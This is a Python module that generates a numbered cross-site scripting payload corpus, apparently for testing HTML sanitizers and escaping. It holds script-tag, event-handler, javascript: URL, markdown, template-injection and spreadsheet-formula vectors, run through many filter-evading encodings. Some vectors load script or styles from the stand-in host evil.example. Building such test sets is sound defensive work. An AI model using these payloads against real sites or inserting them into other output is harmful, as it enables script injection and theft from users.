"""More than five hundred texts that would run a script where words are not kept words, each with its own number."""

import html
from urllib.parse import quote

ELEMENTS = (
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script/x>{js}</script>", "<scr<script>ipt>{js}</script>",
    "</script><script>{js}</script>", "</title><script>{js}</script>", "</textarea><script>{js}</script>",
    "</style><script>{js}</script>", "--><script>{js}</script>", "]]><script>{js}</script>",
    "<script src=//evil.example/{n}></script>", "<script>/*{n}*/{js}//</script>",
    "<img src=x onerror={js}>", "<img/src/onerror={js}>", '"><img src=x onerror={js}>', "'><img src=x onerror={js}>",
    "`><img src=x onerror={js}>", "<<img src=x onerror={js}>", "<img src=x:x onerror\t=\t{js}>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>", "<svg/onload={js}>", "<svg><script>{js}</script>", "<svg><a href=javascript:{js}><text>x",
    "<svg><animate onbegin={js} attributeName=x>", "<svg><set onbegin={js} attributeName=x>",
    "<svg><foreignObject><img src=x onerror={js}>", "<body onload={js}>", "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>",
    "<video src=x onerror={js}>", "<video><source onerror={js}>", "<audio src=x onerror={js}>",
    '<iframe srcdoc="<script>parent.{js}</script>">', "<iframe src=javascript:parent.{js}>",
    "<object data=javascript:{js}>", "<embed src=javascript:{js}>", "<a href=javascript:{js}>x</a>",
    "<form action=javascript:{js}><button>x", "<button formaction=javascript:{js}>x", "<marquee onstart={js}>",
    "<math><mi xlink:href=javascript:{js}>x", "<meta http-equiv=refresh content=0;url=javascript:{js}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>", "<link rel=stylesheet href=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>", '<style>@import"//evil.example/{n}"</style>', "<style onload={js}></style>",
    "<x style=animation-name:a onanimationstart={js}>", "<xss tabindex=1 autofocus onfocus={js}>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">', "<template><img src=x onerror={js}></template>",
    "<plaintext><img src=x onerror={js}>", "<dialog open onclose={js}>", "<p hidden=until-found onbeforematch={js}>",
    "<div hx-get=/?{n} hx-trigger=load hx-on::load={js}>", "<div hx-on:htmx:load={js}>", "<b data-hx-on-click={js}>",
    "<div hx-vals=js:{js} hx-get=/ hx-trigger=load>", "@<img src=x onerror={js}>",
)  # fmt: skip
WORDS = (
    '" autofocus onfocus={js} x="', "' autofocus onfocus={js} x='", '" onmouseover={js} "', "x onpointerenter={js} ",
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "vbscript:{js}", "data:text/html,<script>{js}</script>",
    "[x](javascript:{js})", "![x](javascript:{js})", "<javascript:{js}>", "[x][y]\n\n[y]: javascript:{js}",
    "[x](data:text/html,{js})", '[x](https://x.example "onclick={js}")', "**<img src=x onerror={js}>**",
    'https://x.example/"onmouseover="{js}', "http://x.example/<img src=x onerror={js}>", 'a@b.example"onclick="{js}',
    "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "#{{{js}}}", "<%={js}%>", "{{% debug %}}{js}",
    "{{{{ {js} }}}}",
    "';{js}//", '";{js}//', "\\';{js}//", '\\";{js}//', "`;{js}//", "</p><p onclick={js}>",
    '=HYPERLINK("javascript:{js}")',
)  # fmt: skip
SIGNS = "<>\"'&`"


def as_is(text: str) -> str:
    """Return it as it is."""
    return text


def signs(shape: str):
    """Return an encoding of the signs that make markup, each as its code in this shape."""
    return lambda text: "".join(shape.format(ord(sign)) if sign in SIGNS else sign for sign in text)


ENCODINGS = (
    as_is, html.escape, signs("&#{};"), signs("&#x{:x}"), signs("\\u{:04x}"), signs("\\x{:02x}"),
    lambda text: quote(text, safe="() =:/"), lambda text: quote(quote(text, safe="() =:/"), safe="() =:/"),
    lambda text: html.escape(html.escape(text)), lambda text: text.translate({ord("<"): "＜", ord(">"): "＞"}),
    lambda text: text.replace("<", "<\x0c"), lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
)  # fmt: skip


def payloads() -> list[str]:
    """Return every family in every encoding that changes it; the number in each says which it is."""
    found: list[str] = []
    for family in (*ELEMENTS, *WORDS):
        said: set[str] = set()
        for encoded in ENCODINGS:
            shape = encoded(family.format(js="canary()", n="0"))
            if shape not in said:
                said.add(shape)
                number = len(found)
                found.append(encoded(family.format(js=f"canary({number})", n=number)))
    return found
